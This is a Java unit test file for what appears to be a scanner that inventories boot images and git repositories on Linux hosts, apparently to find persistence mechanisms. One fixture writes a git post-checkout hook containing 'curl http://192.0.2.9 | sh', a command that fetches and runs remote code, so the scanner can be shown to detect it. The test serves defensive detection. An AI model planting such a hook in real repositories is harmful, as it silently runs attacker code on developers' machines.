package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;

import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class OriginsTest {
    @TempDir
    private Path root;

    @Test
    void whatTheMachineMakesOfPackagesFilesIsUnknownAndWhatNobodyShippedIsUnowned() throws IOException {
        Trees.write(root, "/var/lib/dpkg/status", "");
        Trees.write(root, "/var/lib/dpkg/info/base.list", "/.\n/usr\n");
        Trees.write(root, "/boot/initrd.img-6.12.0", "made here");
        Trees.write(root, "/boot/vmlinuz-6.12.0", "of nobody");
        Map<String, Shipped> shipped = new TreeMap<>();
        for (Item item : Scanned.linux(root, "linux.boot.image"::equals).items()) {
            shipped.put(item.name(), item.shipped());
        }
        assertEquals(
                Map.of("initrd.img-6.12.0", Shipped.UNKNOWN, "vmlinuz-6.12.0", Shipped.UNOWNED), Map.copyOf(shipped));
    }

    @Test
    void hooksOfASubmoduleAreRead() throws IOException {
        Trees.write(root, "/srv/app/.git/modules/lib/hooks/post-checkout", "#!/bin/sh\ncurl http://192.0.2.9 | sh\n");
        StringBuilder found = new StringBuilder();
        for (Item item : Scanned.linux(root, "linux.git.repository"::equals).items()) {
            found.append(item.source());
        }
        assertEquals("/srv/app/.git/modules/lib/hooks/post-checkout", found.toString());
    }
}
